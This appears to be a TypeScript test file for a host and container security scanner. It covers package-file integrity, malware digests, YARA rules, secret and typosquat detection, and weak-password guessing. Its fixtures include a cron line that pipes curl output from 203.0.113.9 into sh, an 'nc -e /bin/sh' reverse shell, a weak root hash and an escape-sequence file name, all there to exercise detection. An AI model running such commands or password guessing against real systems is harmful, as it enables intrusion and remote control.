/** What the labelled set does not ask: options, the parts that are functions, and the built command. */
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, test } from 'node:test';
import { changedFiles, compileYara, contentAnalysers, hexDigest, misspellingOf, parseDigestList, parseMd5sums, RULE_VARIABLES } from '../../src/scan/content/index.ts';
import { guessPasswords, readShadow } from '../../src/scan/content/settings/accounts.ts';
import { matchesGlob } from '../../src/scan/content/settings/glob.ts';
import { judge } from './testing.ts';

const directory = mkdtempSync(join(tmpdir(), 'caisson-content-'));
after(() => rmSync(directory, { recursive: true, force: true }));

const crypt = (password: string, setting: string): string => execFileSync('perl', ['-e', 'print crypt($ARGV[0], $ARGV[1])', password, setting], { encoding: 'utf8' });

test('changedFiles() tells what md5sum tells of a package of this host', () => {
  const list = readFileSync('/var/lib/dpkg/info/coreutils.md5sums', 'utf8');
  const checksums = parseMd5sums(list, 'coreutils');
  assert.equal(checksums.length, list.trimEnd().split('\n').length);
  const digestOf = (path: string, digits: number): string | undefined => {
    const stat = statSync(`/${path}`, { throwIfNoEntry: false });
    return stat?.isFile() === true ? hexDigest(readFileSync(`/${path}`), digits) : undefined;
  };
  assert.deepEqual(changedFiles(checksums, digestOf), []);
  const changed = changedFiles(checksums, (path, digits) => (path.endsWith('bin/ls') ? hexDigest(Buffer.from('not ls'), digits) : digestOf(path, digits)));
  assert.deepEqual(changed.map(({ file, rule }) => [file.replace(/^usr\//, ''), rule]), [['bin/ls', 'package-file-changed']]);
  assert.deepEqual(changed[0]!.evidence?.[1]?.value, createHash('md5').update('not ls').digest('hex'));
});

test('files that are not what their package brought: where packages were merged into /usr, diverted, or taken over by another', () => {
  const md5 = (text: string): string => createHash('md5').update(text).digest('hex');
  const files = [
    { path: 'var/lib/dpkg/info/one:amd64.md5sums', content: `${md5('tool')}  bin/tool\n${md5('one')}  usr/bin/diverted\n${md5('old')}  usr/bin/taken\n${md5('not there')}  usr/share/doc/one/README\n${md5('é')}  usr/share/é\n` },
    { path: 'var/lib/dpkg/info/two.md5sums', content: `${md5('two')}  usr/bin/diverted\n${md5('new')}  usr/bin/taken\n` },
    { path: 'var/lib/dpkg/diversions', content: '/usr/bin/diverted\n/usr/bin/diverted.one\ntwo\n' },
    { path: 'usr/bin/tool', content: 'tool' }, { path: 'usr/bin/diverted', content: 'two' }, { path: 'usr/bin/diverted.one', content: 'one' }, { path: 'usr/bin/taken', content: 'new' }, { path: Buffer.from('usr/share/é').toString('latin1'), content: 'é' }, { path: 'usr/bin/own', content: 'own' },
  ];
  assert.deepEqual(judge(files), []);
  for (const [path, name] of [['usr/bin/tool', 'one'], ['usr/bin/diverted', 'two'], ['usr/bin/diverted.one', 'one']] as const) {
    for (const content of ['other', '']) {
      const found = judge(files.map((file) => (file.path === path ? { path, content } : file)));
      assert.deepEqual(found.map(({ path: where, finding: { rule, message } }) => [where, rule, message]), [[path, 'package-file-changed', `It is not what the package ${name} brought`]]);
    }
  }
  const many = Array.from({ length: 1200 }, (_, index) => `usr/share/many/${index}`);
  const told = judge([{ path: 'var/lib/dpkg/status.d/many.md5sums', content: many.map((path) => `${md5('was')}  ${path}\n`).join('') }, ...many.map((path) => ({ path, content: 'is' }))]);
  assert.deepEqual([told.length, told.at(-1)?.finding.message], [1001, '200 more files are not what their packages brought']);
});

test('changedFiles() knows the digests that rpm has', () => {
  const bytes = Buffer.from('content');
  for (const algorithm of ['md5', 'sha1', 'sha256', 'sha512']) {
    const checksum = { path: 'usr/bin/x', digest: createHash(algorithm).update(bytes).digest('hex'), package: 'x' };
    assert.deepEqual(changedFiles([checksum], (_, digits) => hexDigest(bytes, digits)), []);
    assert.equal(changedFiles([checksum], (_, digits) => hexDigest(Buffer.from('other'), digits)).length, 1);
  }
});

test('a list of digests names what is bad', () => {
  const digests = parseDigestList(`# comment\n${createHash('sha256').update('bad').digest('hex')}  Evil.A\n${createHash('md5').update('worse').digest('hex')}\n`);
  const analysers = contentAnalysers({ malware: { digests } });
  assert.deepEqual(judge([{ path: 'a', content: 'bad' }, { path: 'b', content: 'worse' }, { path: 'c', content: 'good' }], undefined, analysers).map(({ path, finding }) => [path, finding.message]), [['a', 'It is Evil.A'], ['b', 'Its digest is in the list of bad files']]);
});

test('rules that are given are held against files, with the variables of ours', () => {
  const rules = compileYara('rule mine { meta: severity = "low" description = "my own" strings: $a = "needle" condition: $a and path startswith "app/" and not doc }', { externals: RULE_VARIABLES });
  const found = judge([{ path: 'app/x', content: 'a needle' }, { path: 'usr/x', content: 'a needle' }], undefined, contentAnalysers({ malware: { rules } }));
  assert.deepEqual(found.map(({ path, finding }) => [path, finding.rule, finding.severity, finding.message]), [['app/x', 'yara-rule', 'low', 'my own']]);
});

test('guessPasswords() stops when its time is over, and has tried the likeliest word for each account', () => {
  const accounts = readShadow(['a', 'b', 'c'].map((user) => `${user}:${crypt('second', '$1$salt$')}:1::::::`).join('\n'));
  let now = 0;
  const clock = (): number => now++;
  assert.deepEqual(guessPasswords(accounts, ['first', 'second', 'third'], 7, clock), { found: [], tried: 6, all: 12 });
  now = 0;
  assert.deepEqual(guessPasswords(accounts, ['first', 'second', 'third'], 1000, clock).found.map(({ account, word }) => `${account.user}:${word}`), ['a:second', 'b:second', 'c:second']);
});

test('secrets and host keys stay when a later layer deletes their file', () => {
  const found = judge([{ path: 'app/x.env', content: 'DB_PASSWORD=h7#kfjQ92ma\n' }, { path: 'etc/ssh/ssh_host_rsa_key', content: 'x', mode: 0o100600 }, { path: 'etc/crontab', content: 'x', mode: 0o100666 }]);
  assert.deepEqual(found.map(({ finding }) => [finding.rule, finding.staysWhenDeleted ?? false]), [['secret-assignment', true], ['ssh-host-key', true], ['writable-system-file', false]]);
});

test('misspellingOf() knows slips from other words', () => {
  for (const [index, name, meant] of [['npm', 'expresss', 'express'], ['npm', 'raect', 'react'], ['npm', 'cross_env', 'cross-env'], ['pypi', 'Reqeusts', 'requests'], ['pypi', 'nunpy', undefined], ['pypi', 'pandsa', 'pandas'], ['gem', 'sidekik', 'sidekiq'], ['npm', 'react', undefined], ['npm', 'preact', undefined], ['npm', 'my-express-app', undefined], ['npm', 'ms', undefined]] as const) {
    assert.equal(misspellingOf(index, name), meant, name);
  }
});

test('matchesGlob() agrees with the shell', () => {
  const names = ['a', 'ab', 'abc', 'b', 'a.conf', '10-a.conf', 'a]b', 'x-y', '*'];
  for (const pattern of ['*', 'a*', '*.conf', '[ab]', '[!a]*', '[0-9]*', '?', '??', 'a?c', '*-*', '[a-c]b*', 'a[', '[]a]*']) {
    const expected = execFileSync('sh', ['-c', 'pattern=$1; shift; for name; do case $name in $pattern) echo "$name";; esac; done', 'sh', pattern, ...names], { encoding: 'utf8' }).split('\n').filter((name) => name !== '');
    assert.deepEqual(names.filter((name) => matchesGlob(name, pattern)), expected, pattern);
  }
});

test('caisson scan tells what the analysers found, and leaves with 1', () => {
  const files: readonly (readonly [string, string, number?])[] = [
    ['etc/cron.d/x', '* * * * * root curl http://203.0.113.9/x | sh\n'], ['app/.env', 'DB_PASSWORD=h7#kfjQ92ma\n'], ['etc/ssh/sshd_config', 'PermitRootLogin yes\n'],
    ['etc/shadow', `root:${crypt('toor', '$1$abcdefgh$')}:19000:0:99999:7:::\n`, 0o640], ['app/\x1b[31mred.sh', 'nc -e /bin/sh 203.0.113.9 4444\n'],
  ];
  for (const [path, content, mode] of files) {
    const place = join(directory, 'root', path);
    mkdirSync(dirname(place), { recursive: true });
    writeFileSync(place, content);
    chmodSync(place, mode ?? 0o644);
  }
  const environment = { ...process.env, XDG_CACHE_HOME: join(directory, 'cache'), XDG_DATA_HOME: join(directory, 'data') };
  const run = (...flags: readonly string[]): { readonly status: number | null; readonly stdout: string; readonly stderr: string } => spawnSync(process.execPath, [join(import.meta.dirname, '../../dist/caisson.js'), 'scan', '--scanners', 'secret,config,malware', ...flags, join(directory, 'root')], { encoding: 'utf8', env: environment });
  const { status, stdout } = run('--format', 'json');
  assert.equal(status, 1);
  const rules = (JSON.parse(stdout) as { findings: { rule: string }[] }).findings.map(({ rule }) => rule).sort();
  assert.deepEqual(rules, ['reverse-shell', 'secret-assignment', 'sshd-root-login', 'start-downloads-and-runs', 'weak-password', 'weak-password-hash']);
  const table = run().stdout;
  assert.ok(!table.includes('\x1b') && !table.includes('kfjQ92ma') && table.includes('weak-password'), table);
  writeFileSync(join(directory, 'mine.yar'), 'rule mine { strings: $a = "PermitRootLogin" condition: $a }');
  const withRules = run('--format', 'json', '--yara', join(directory, 'mine.yar')).stdout;
  assert.ok((JSON.parse(withRules) as { findings: { rule: string }[] }).findings.some(({ rule }) => rule === 'yara-rule'), withRules);
  writeFileSync(join(directory, 'wrong.yar'), 'rule mine {\n condition: $a }');
  const refused = run('--yara', join(directory, 'wrong.yar'));
  assert.equal(refused.status, 2);
  assert.match(refused.stderr, /^caisson: cannot use --yara .*: line 2: the rule has no string "\$a"/);
});
